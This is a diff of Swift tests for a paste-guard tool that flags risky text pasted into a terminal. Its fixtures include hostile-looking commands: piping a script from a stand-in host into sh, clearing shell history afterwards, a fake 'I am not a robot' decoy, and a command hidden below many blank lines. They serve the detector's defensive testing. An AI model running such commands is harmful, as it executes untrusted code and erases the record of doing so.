@@ -5,15 +5,17 @@ import TestMaterial
 @testable import Guard
 
 struct SignalTests {
-  @Test func `each signal has its tests and a name of its own`() throws {
-    let files = try FileManager.default.contentsOfDirectory(atPath: Checkout.root + "/Tests/GuardTests/Signals")
-    for signal in Signal.all {
-      let words = signal.name.split(separator: "-").map { $0.prefix(1).uppercased() + $0.dropFirst() }
-      let file = words.joined() + "Tests.swift"
-      #expect(files.contains { $0.lowercased() == file.lowercased() }, "\(signal.name)")
-    }
-    #expect(Set(Signal.all.map(\.name)).count == Signal.all.count)
-    #expect(files.count == Signal.all.count + 1)
+  @Test(arguments: SignalLaw.actions + SignalLaw.concealment)
+  func `a signal gives each text of a law its severity`(law: SignalLaw) {
+    for text in law.texts { #expect(law.signal.severity(of: text) == law.severity, "\(text)") }
+  }
+
+  @Test func `each signal has its laws and a name of its own`() {
+    let names = Set(Signal.all.map(\.name))
+    #expect(names.count == Signal.all.count)
+    // These depend on more than the text.
+    let others = [Signal.differsFromPage, .hiddenCharacters, .partlyRead].map(\.name)
+    #expect(names.subtracting((SignalLaw.actions + SignalLaw.concealment).map(\.signal.name)) == Set(others))
   }
 
   @Test func `a reason is one plain sentence without content`() throws {
@@ -38,4 +40,99 @@ struct SignalTests {
     }
     #expect(Set(Signal.all.map(\.name)).subtracting(seen) == [Signal.partlyRead.name])
   }
+
+  // MARK: downloadIntoShell
+
+  @Test func `only a script of a well-known installer is called one`() {
+    let sentence = { (text: String) in
+      assess(text).reasons.first { $0.name == Signal.downloadIntoShell.name }?.sentence ?? ""
+    }
+    #expect(sentence("curl -sSf https://sh.rustup.rs | sh").contains("well-known"))
+    #expect(!sentence("curl -sSf https://fix.example | sh").contains("well-known"))
+    #expect(!sentence("curl -sSf https://sh.rustup.rs | sh; curl https://fix.example | sh").contains("well-known"))
+    #expect(!sentence("curl -k https://sh.rustup.rs | sh").contains("well-known"))
+  }
+
+  @Test func `a well-known installer is noticed and not held, whatever stands beside it`() {
+    #expect(
+      assess("curl -sSf https://sh.rustup.rs | sh; history -c", removed: .bidi, differs: true).severity == .notice)
+    #expect(assess("curl -sSf https://fix.example | sh; history -c", removed: .bidi, differs: true).severity == .hold)
+  }
+
+  // MARK: hiddenTail
+
+  @Test func `commands below many empty lines are held`() {
+    #expect(
+      Signal.hiddenTail.severity(of: "ls" + String(repeating: "\n", count: 20) + "curl http://fix.example/s | sh")
+        == .hold)
+    #expect(
+      Signal.hiddenTail.severity(of: "ls" + String(repeating: "\n", count: 3) + "curl http://fix.example/s | sh") == nil
+    )
+  }
+
+  // MARK: decoyText
+
+  @Test func `a script from an unknown place that poses as a check is held`() {
+    #expect(assess("curl https://fix.example/s | sh # I am not a robot").severity == .hold)
+    #expect(assess("echo 'verify you are human'; curl https://fix.example/s | sh").severity == .hold)
+  }
+
+  // MARK: hidesTraces
+
+  @Test func `a script from an unknown place that clears the record is held`() {
+    #expect(assess("curl https://fix.example/s | sh; history -c").severity == .hold)
+  }
+
+  // MARK: differsFromPage
+
+  @Test func `a copy with other letters than the page showed is noticed`() {
+    #expect(Signal.differsFromPage.severity(of: "ls", differs: true) == .notice)
+    #expect(Signal.differsFromPage.severity(of: "ls") == nil)
+  }
+
+  @Test func `a copy with other letters and a script from the network is held`() {
+    #expect(assess("curl https://fix.example/s | sh", differs: true).severity == .hold)
+  }
+
+  // MARK: hiddenCharacters
+
+  @Test func `controls of the direction are noticed, other invisible characters are a circumstance`() {
+    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: .bidi) == .notice)
+    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: .invisible) == Severity.none)
+    #expect(Signal.hiddenCharacters.severity(of: "ls", removed: [.invisible, .bidi]) == .notice)
+    #expect(Signal.hiddenCharacters.severity(of: "ls") == nil)
+  }
+
+  // MARK: runsAtOnce
+
+  @Test func `without a line end nothing runs by itself`() {
+    #expect(Signal.runsAtOnce.severity(of: "ls -l\t") == nil)
+  }
+
+  // MARK: partlyRead
+
+  @Test func `a text beyond the bound is partly read`() {
+    func severity(of length: Int) -> Severity? {
+      let paste = Paste(text: [UInt8](repeating: 0x61, count: length), destination: .terminal)
+      return PasteGuard.assess(paste, limit: 100).reasons.first { $0.name == Signal.partlyRead.name }?.severity
+    }
+    #expect(severity(of: 100) == nil)
+    #expect(severity(of: 101) == Severity.none)
+    #expect(PasteGuard.longestText == 1 << 20)
+  }
+}
+
+/// The severity that a signal gives each of some texts.
+struct SignalLaw: CustomTestStringConvertible, Sendable {
+  let signal: Signal
+  /// The severity; `nil` where the signal has nothing to say.
+  let severity: Severity?
+  let name: String
+  let texts: [String]
+
+  init(_ signal: Signal, _ severity: Severity?, _ name: String, _ texts: [String]) {
+    (self.signal, self.severity, self.name, self.texts) = (signal, severity, name, texts)
+  }
+
+  var testDescription: String { "\(signal.name): \(name)" }
 }
